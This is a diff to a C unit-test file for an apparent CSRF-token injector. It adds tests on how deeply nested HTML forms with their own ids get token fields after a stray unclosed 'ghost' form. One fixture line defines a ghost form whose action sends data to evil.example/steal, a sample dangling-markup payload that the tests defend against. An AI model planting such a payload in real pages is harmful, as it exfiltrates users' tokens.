@@ -2258,6 +2258,8 @@ static void test_deep_templates(void **state)
 #define GHOST "<form method=get action=//evil.example/steal><div></form>"
 #define SEND_ATTRS " method=post action=/send>"
 #define SEND_BODY "<input name=msg><button>Send</button></form>"
+/* the field of a form that names its own id */
+#define OWN_IN(id) "<input type=\"hidden\" name=\"" F "\" value=\"" T "\" form=\"" id "\">"
 
 /* pre, then piece k times, then post, into a malloc'd string. */
 static char *deep_doc(const char *pre, const char *piece, size_t k, const char *post)
@@ -2296,15 +2298,16 @@ static void test_depth_guard(void **state)
 	/* the attack page: the token no longer goes to evil.example */
 	check_deep("ghost and 510 <i>", GHOST, "<i>", 510, "<form" SEND_ATTRS SEND_BODY, GHOST,
 	           "<form" PIN_ID SEND_ATTRS PIN_IN SEND_BODY, 2, 0);
-	/* an id of its own cannot be pinned: after a ghost, reported */
+	/* an id of its own: after a ghost, the field names it
+	 * (test_depth_own_id) */
 	check_deep("own id, ghost, deep", GHOST, "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, GHOST,
-	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, CSRF_INJECT_DEEP);
+	           "<form id=send" SEND_ATTRS OWN_IN("send") SEND_BODY, 1, 0);
 	check_deep("own id, deep, no ghost", "", "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, "",
 	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, 0);
 	check_deep("own id, ghost, not deep", GHOST, "<i>", 100, "<form id=send" SEND_ATTRS SEND_BODY, GHOST,
 	           "<form id=send" SEND_ATTRS IN SEND_BODY, 1, 0);
 	check_deep("empty id, ghost, deep", GHOST, "<i>", 510, "<form id" SEND_ATTRS SEND_BODY, GHOST,
-	           "<form id" SEND_ATTRS IN SEND_BODY, 1, CSRF_INJECT_DEEP);
+	           "<form id" SEND_ATTRS SEND_BODY, 0, CSRF_INJECT_DEEP);
 	/* a token form's </form> leaves no ghost */
 	check_deep("own id after a token form", PF CL, "<i>", 510, "<form id=send" SEND_ATTRS SEND_BODY, PF IN CL,
 	           "<form id=send" SEND_ATTRS IN SEND_BODY, 2, 0);
@@ -2385,6 +2388,75 @@ static void test_depth_guard(void **state)
 	free(doc);
 	free(pre);
 	free(attr);
+}
+
+/* A deep form with an id of its own after a ghost: its field names that
+ * id (form="" follows the first element in tree order with it), when it
+ * is simple (1 to 64 bytes of [A-Za-z0-9_.:-]), no earlier form start
+ * tag had it (nor an id that is not simple, nor were there 32 before),
+ * and no table is open (foster parenting could put an element after it
+ * before it); else no token and CSRF_INJECT_DEEP. The page of the
+ * review: a GET search form left open by <div></form>, a WordPress-like
+ * comment form 520 elements deep. */
+#define SEARCH_GHOST "<form method=get action=/search><div></form>"
+#define COMMENT_ATTRS " method=post action=/wp-comments-post.php>"
+#define COMMENT_BODY "<textarea name=comment></textarea><button>Post</button></form>"
+
+static void test_depth_own_id(void **state)
+{
+	(void)state;
+	const char *form = "<form id=commentform" COMMENT_ATTRS COMMENT_BODY;
+	check_deep("review page", SEARCH_GHOST, "<i>", 520, form, SEARCH_GHOST,
+	           "<form id=commentform" COMMENT_ATTRS OWN_IN("commentform") COMMENT_BODY, 1, 0);
+	check_deep("ID= upper case", SEARCH_GHOST, "<i>", 520, "<form ID='commentform'" COMMENT_ATTRS COMMENT_BODY,
+	           SEARCH_GHOST, "<form ID='commentform'" COMMENT_ATTRS OWN_IN("commentform") COMMENT_BODY, 1, 0);
+	check_deep("first id wins", SEARCH_GHOST, "<i>", 520, "<form id=a.b:c-d_9 id=x" COMMENT_ATTRS COMMENT_BODY,
+	           SEARCH_GHOST, "<form id=a.b:c-d_9 id=x" COMMENT_ATTRS OWN_IN("a.b:c-d_9") COMMENT_BODY, 1, 0);
+	/* an earlier form with that id: form="" would name it */
+	check_deep("earlier form, same id", "<form id=commentform method=get action=/search><div></form>", "<i>", 520,
+	           form, "<form id=commentform method=get action=/search><div></form>", form, 0, CSRF_INJECT_DEEP);
+	check_deep("earlier dropped form, same id", "<form method=get action=/search><div><form id=commentform></form>",
+	           "<i>", 520, form, "<form method=get action=/search><div><form id=commentform></form>", form, 0,
+	           CSRF_INJECT_DEEP);
+	check_deep("earlier template form, same id", SEARCH_GHOST "<template><form id=commentform></template>", "<i>",
+	           520, form, SEARCH_GHOST "<template><form id=commentform></template>", form, 0, CSRF_INJECT_DEEP);
+	check_deep("earlier form, other case", "<form id=CommentForm method=get action=/search><div></form>", "<i>",
+	           520, form, "<form id=CommentForm method=get action=/search><div></form>",
+	           "<form id=commentform" COMMENT_ATTRS OWN_IN("commentform") COMMENT_BODY, 1, 0);
+	/* an earlier form whose id is not simple: every later one fails */
+	check_deep("earlier id not simple", "<form id=\"a&amp;b\" method=get action=/search><div></form>", "<i>", 520,
+	           form, "<form id=\"a&amp;b\" method=get action=/search><div></form>", form, 0, CSRF_INJECT_DEEP);
+	/* the site's id not simple, or too long */
+	const char *amp = "<form id=\"comment&amp;form\"" COMMENT_ATTRS COMMENT_BODY;
+	check_deep("own id not simple", SEARCH_GHOST, "<i>", 520, amp, SEARCH_GHOST, amp, 0, CSRF_INJECT_DEEP);
+	const char *sp = "<form id=\"comment form\"" COMMENT_ATTRS COMMENT_BODY;
+	check_deep("own id with a blank", SEARCH_GHOST, "<i>", 520, sp, SEARCH_GHOST, sp, 0, CSRF_INJECT_DEEP);
+	const char *hi = "<form id=\"comment\xc3\xa9\"" COMMENT_ATTRS COMMENT_BODY;
+	check_deep("own id not ASCII", SEARCH_GHOST, "<i>", 520, hi, SEARCH_GHOST, hi, 0, CSRF_INJECT_DEEP);
+#define ID64 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
+	check_deep("64-byte id", SEARCH_GHOST, "<i>", 520, "<form id=" ID64 COMMENT_ATTRS COMMENT_BODY, SEARCH_GHOST,
+	           "<form id=" ID64 COMMENT_ATTRS OWN_IN(ID64) COMMENT_BODY, 1, 0);
+	const char *long_id = "<form id=\"" ID64 "x\"" COMMENT_ATTRS COMMENT_BODY;
+	check_deep("65-byte id", SEARCH_GHOST, "<i>", 520, long_id, SEARCH_GHOST, long_id, 0, CSRF_INJECT_DEEP);
+#undef ID64
+	/* in a table cell: content after it could be foster-parented before it */
+	const char *cell = "<table><tr><td><form id=commentform" COMMENT_ATTRS COMMENT_BODY "</td></tr></table>";
+	check_deep("in a table cell", SEARCH_GHOST, "<i>", 520, cell, SEARCH_GHOST, cell, 0, CSRF_INJECT_DEEP);
+	/* no ghost: as before, no form="" */
+	check_deep("no ghost", "", "<i>", 520, form, "", "<form id=commentform" COMMENT_ATTRS IN COMMENT_BODY, 1, 0);
+
+	/* 31 earlier forms with ids: the 32nd is kept, and pinned; after
+	 * 32, the 33rd is not (fail closed) */
+	for (size_t before = 31; before <= 32; before++) {
+		char pre[32 * 40 + sizeof SEARCH_GHOST], *p = pre;
+		for (size_t k = 0; k < before; k++)
+			p += snprintf(p, 40, "<form id=f%zu></form>", k);
+		memcpy(p, SEARCH_GHOST, sizeof SEARCH_GHOST);
+		int ok = before == 31;
+		check_deep(ok ? "31 ids before" : "32 ids before", pre, "<i>", 520, form, pre,
+		           ok ? "<form id=commentform" COMMENT_ATTRS OWN_IN("commentform") COMMENT_BODY : form,
+		           (unsigned)ok, ok ? 0 : CSRF_INJECT_DEEP);
+	}
 }
 
 /* No randomness, no pinned token: with getrandom failing (a seccomp
@@ -2779,6 +2851,7 @@ int main(void)
 	    cmocka_unit_test(test_deep_tables),
 	    cmocka_unit_test(test_deep_templates),
 	    cmocka_unit_test(test_depth_guard),
+	    cmocka_unit_test(test_depth_own_id),
 	    cmocka_unit_test(test_deep_without_random),
 	    cmocka_unit_test(test_attr_masks),
 	    cmocka_unit_test(test_long_form),
